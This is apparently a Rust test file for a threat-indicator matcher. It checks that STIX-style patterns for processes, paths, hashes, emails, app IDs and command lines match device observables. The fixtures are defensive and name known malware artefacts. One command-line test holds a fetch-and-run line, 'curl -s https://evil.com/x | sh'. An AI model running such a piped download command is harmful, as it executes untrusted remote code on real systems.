//! Every other kind of value.

use vigie_model::{Meaning, Observable, ObservableKind};

use super::super::How;
use super::{domain, how, matcher, met};

#[test]
fn processes_by_base_name_and_cut() {
    let bh = "[process:name = 'bh']";
    assert_eq!(how(bh, Observable::process("bh")), Some(How::Exact));
    assert_eq!(how(bh, Observable::process("/private/var/db/bh")), Some(How::Exact));
    assert_eq!(how(bh, Observable::executable("/usr/libexec/bh")), Some(How::Exact));
    for other in ["BH", "bhd", "b", "/bh/other"] {
        assert_eq!(how(bh, Observable::process(other)), None, "{other}");
    }
    assert_eq!(how(bh, Observable::file_path("/x/bh")), Some(How::ProcessNameAsFile));
    assert_eq!(how(bh, Observable::file_name("bh")), Some(How::ProcessNameAsFile));
    assert_eq!(how(bh, Observable::new(ObservableKind::StoredPath, "/x/bh")), None);
    assert_eq!(how(bh, Observable::file_path("/bh/x")), None);
    let long = "[process:name = 'ReminderIntentsUIExtension']";
    assert_eq!(how(long, Observable::process("ReminderIntentsU")), Some(How::Truncated));
    assert_eq!(how(long, Observable::process("ReminderIntents")), Some(How::Truncated));
    assert_eq!(how(long, Observable::process("ReminderIntent")), None);
    assert_eq!(how(long, Observable::process("ReminderIntentsUI")), None);
    assert_eq!(how("[process:name = 'mssecsvc.exe']", Observable::process("MSSECSVC.EXE")), Some(How::Exact));
}

#[test]
fn paths_at_component_boundaries() {
    let dir = "[file:path = '/private/var/db/com.apple.xpc.roleaccountd.staging/']";
    for same in [
        "/private/var/db/com.apple.xpc.roleaccountd.staging",
        "private/var/db/com.apple.xpc.roleaccountd.staging/",
        "/var/db/com.apple.xpc.roleaccountd.staging",
    ] {
        assert_eq!(how(dir, Observable::file_path(same)), Some(How::Exact), "{same}");
    }
    assert_eq!(how(dir, Observable::file_path("/var/db/com.apple.xpc.roleaccountd.staging/x")), Some(How::PathBelow));
    assert_eq!(
        how(dir, Observable::executable("/private/var/db/com.apple.xpc.roleaccountd.staging/x")),
        Some(How::PathBelow)
    );
    assert_eq!(how(dir, Observable::file_path("/private/var/db/com.apple.xpc.roleaccountd.stagings")), None);
    assert_eq!(
        how("[file:path = 'var/tmp/hooker']", Observable::file_path("/private/var/tmp/hooker")),
        Some(How::Exact)
    );
    let var = "[file:path = '/private/var']";
    assert_eq!(how(var, Observable::file_path("/private/variable")), None);
    // A folder every device has only matches itself.
    assert_eq!(how(var, Observable::file_path("/private/var/x")), None);
    let uuid = "[file:path = '/private/var/mobile/Containers/Data/Application/0F1E2D3C-4B5A-6978-8796-A5B4C3D2E1F0/Library/x.db']";
    for same in [
        "/private/var/mobile/Containers/Data/Application/com.example.app/Library/x.db",
        "/var/mobile/Containers/Data/Application/11111111-2222-3333-4444-555555555555/Library/x.db/below",
    ] {
        assert!(how(uuid, Observable::file_path(same)).is_some(), "{same}");
    }
    assert_eq!(
        how(uuid, Observable::file_path("/private/var/mobile/Containers/Data/Application/a/b/Library/x.db")),
        None
    );
    assert_eq!(
        how(r"[file:path = 'C:\\Windows\\perfc.dat']", Observable::file_path(r"c:\windows\PERFC.dat")),
        Some(How::Exact)
    );
    assert_eq!(
        how("[file:name = 'roleaccountd.plist']", Observable::file_path("/a/b/roleaccountd.plist")),
        Some(How::Exact)
    );
    assert_eq!(how("[file:name = 'roleaccountd.plist']", Observable::file_path("/a/b/xroleaccountd.plist")), None);
}

#[test]
fn hashes_of_every_spelling_and_length() {
    let sha256 = "ED01EBFBC9EB5BBEA545AF4D01BF5F1071661840480439C6E5BABE8E080E41AA";
    for path in ["'SHA-256'", "sha256", "\"SHA256\"", "SHA-256", "'SHA256'"] {
        let pattern = format!("[file:hashes.{path} = '{sha256}']");
        assert_eq!(how(&pattern, Observable::hash(sha256.to_lowercase())), Some(How::Exact), "{path}");
    }
    for (name, len) in [("MD5", 32), ("'SHA-1'", 40), ("'SHA-512'", 128)] {
        let hash = "a".repeat(len);
        assert_eq!(
            how(&format!("[file:hashes.{name} = '{hash}']"), Observable::hash(hash.to_uppercase())),
            Some(How::Exact)
        );
    }
    let digits = "EAD8338AB48246EFBC9A0B8253AFF0750DF94029C3069A9E75467C34545FF362DB7893";
    for published in [digits.to_owned(), format!("T1{digits}")] {
        let pattern = format!("[file:hashes.TLSH = '{published}']");
        assert_eq!(how(&pattern, Observable::hash(format!("T1{digits}"))), Some(How::Exact), "{published}");
    }
    let odd = matcher(&["[file:hashes.imphash = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa']", "[file:hashes.MD5 = 'zz']"]);
    assert_eq!(odd.packs()[0].unusable_total(), 2);
    assert_eq!(met(&odd, &[Observable::hash("a".repeat(32))]), []);
}

#[test]
fn emails_trimmed_and_without_case() {
    let pattern = "[email-addr:value = 'Someone@Evil.example']";
    for same in [" someone@evil.example", "mailto:SOMEONE@evil.example", "Contact 12 <someone@evil.example>"] {
        assert_eq!(how(pattern, Observable::email(same)), Some(How::Exact), "{same}");
    }
    assert_eq!(how(pattern, Observable::user_account("someone@evil.example")), Some(How::Exact));
    assert_eq!(how(pattern, Observable::url("mailto:someone@evil.example")), Some(How::Exact));
    assert_eq!(how(pattern, Observable::email("xsomeone@evil.example")), None);
    assert_eq!(how(&domain("evil.com"), Observable::email("a@mail.evil.com")), Some(How::EmailDomain));
}

#[test]
fn ids_are_whole() {
    assert_eq!(how("[app:id = 'com.Evil.App']", Observable::app_id("com.evil.app")), Some(How::Exact));
    assert_eq!(how("[app:id = 'com.evil.app']", Observable::app_id("com.evil.app2")), None);
    assert_eq!(how("[app:id = 'com.evil.app']", Observable::app_id("com.evil")), None);
    assert_eq!(how("[process:name = 'com.evil.app']", Observable::app_id("com.evil.app")), Some(How::Exact));
    assert_eq!(
        how("[configuration-profile:id = 'ABCDEF-1234']", Observable::profile_id("abcdef-1234")),
        Some(How::Exact)
    );
    assert_eq!(how("[configuration-profile:id = 'ABCDEF-1234']", Observable::profile_id("A")), None);
    assert_eq!(
        how(
            "[app:cert.sha1 = 'AABBCCDDEEFF00112233445566778899AABBCCDD']",
            Observable::app_certificate("aa:bb:cc:dd:ee:ff:00:11:22:33:44:55:66:77:88:99:aa:bb:cc:dd")
        ),
        Some(How::Exact)
    );
    for (pattern, observable) in [
        ("[android-property:name = 'sys.x']", Observable::property("sys.x")),
        ("[mutex:name = 'M']", Observable::mutex("M")),
        ("[process:extensions.'windows-service-ext'.service_name = 'mssecsvc2.0']", Observable::service("MSSECSVC2.0")),
        (
            r"[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\Software\\X']",
            Observable::registry_key(r"HKLM\SOFTWARE\x"),
        ),
        ("[user-account:account_login = '+1 555 0100']", Observable::user_account("+15550100")),
        ("[x509-certificate:serial_number = '0A:1B']", Observable::certificate("0a:1b")),
        (
            "[x509-certificate:hashes.'SHA-1' = 'AABBCCDDEEFF00112233445566778899AABBCCDD']",
            Observable::certificate("aabbccddeeff00112233445566778899aabbccdd"),
        ),
    ] {
        assert_eq!(how(pattern, observable), Some(How::Exact), "{pattern}");
    }
}

#[test]
fn command_lines() {
    assert_eq!(
        how("[process:command_line = 'rundll32.exe  x.dll,#1']", Observable::command_line(" rundll32.exe x.dll,#1 ")),
        Some(How::Exact)
    );
    assert_eq!(
        how(
            "[process:command_line LIKE '%perfc.dat%#1%']",
            Observable::command_line(r"rundll32 C:\Windows\perfc.dat #1 30")
        ),
        Some(How::Pattern)
    );
    assert_eq!(how("[process:name = 'bh']", Observable::command_line("/usr/bin/bh -x")), Some(How::Exact));
    assert_eq!(how("[process:name = 'bh']", Observable::command_line("ls bh")), None);
    assert_eq!(
        how("[file:path = '/data/local/tmp/wd']", Observable::command_line("sh /data/local/tmp/wd/run")),
        Some(How::PathBelow)
    );
    assert_eq!(how(&domain("evil.com"), Observable::command_line("curl -s https://evil.com/x | sh")), Some(How::Exact));
    assert_eq!(
        how(r"[file:name = 'perfc.dat']", Observable::command_line("rundll32.exe \"C:\\Windows\\perfc.dat\" #1")),
        Some(How::Exact)
    );
}

#[test]
fn several_hits_of_one_indicator_are_one_and_the_strongest() {
    let matcher = matcher(&[&domain("evil.com")]);
    let mut scan = matcher.scan();
    scan.see(&Observable::email("a@evil.com"));
    scan.see(&Observable::url("https://a.evil.com/").meaning(Meaning::Execution));
    scan.see(&Observable::domain("evil.com"));
    scan.see(&Observable::text("evil.com ".repeat(10_000)));
    let hits = scan.finish().hits;
    assert_eq!(hits.len(), 1);
    assert_eq!((hits[0].how, hits[0].kind, hits[0].meaning), (How::Exact, ObservableKind::Domain, None));
}

#[test]
fn lookup_shows_every_kind() {
    let matcher = matcher(&[
        &domain("evil.com"),
        "[process:name = 'bh']",
        "[app:id = 'com.evil.app']",
        "[file:path = '/a/b']",
        "[process:name = 'bh' AND file:name = 'x']",
        "[email-addr:value = 'a@evil.com']",
    ]);
    let shown = |value: &str| {
        matcher.lookup(value).iter().map(|h| (h.indicator.kind().name(), h.how.name())).collect::<Vec<_>>()
    };
    assert_eq!(shown("https://www.evil.com/x"), [("domain", "subdomain")]);
    assert_eq!(shown("bh"), [("process", "exact"), ("pattern", "part-of-pattern")]);
    assert_eq!(shown("com.evil.app"), [("app-id", "exact")]);
    assert_eq!(shown("/a/b/c"), [("file-path", "path-below")]);
    assert_eq!(shown("a@evil.com"), [("domain", "email-domain"), ("email", "exact")]);
    assert_eq!(shown("nothing"), []);
}

#[test]
fn what_a_record_left_unsearched_is_searched_in_the_next() {
    let matcher = matcher(&[&domain("met-in-the-second-record.example")]);
    let mut scan = matcher.scan();
    let long = format!("https://w.example/?u=http://a.example/{}", "x".repeat(3000));
    for _ in 0..1500 {
        scan.see(&Observable::url(&long));
    }
    for n in 0..300 {
        scan.see(&Observable::url(format!("https://w.example/?u=http://b{n}.example/")));
    }
    let link = "https://w.example/?u=http://met-in-the-second-record.example/";
    scan.see(&Observable::url(link));
    let first = scan.finish();
    assert!(first.limited && first.hits.is_empty());
    scan.see(&Observable::url(link));
    let second = scan.finish();
    assert!(!second.limited);
    assert_eq!(second.hits.len(), 1);
}
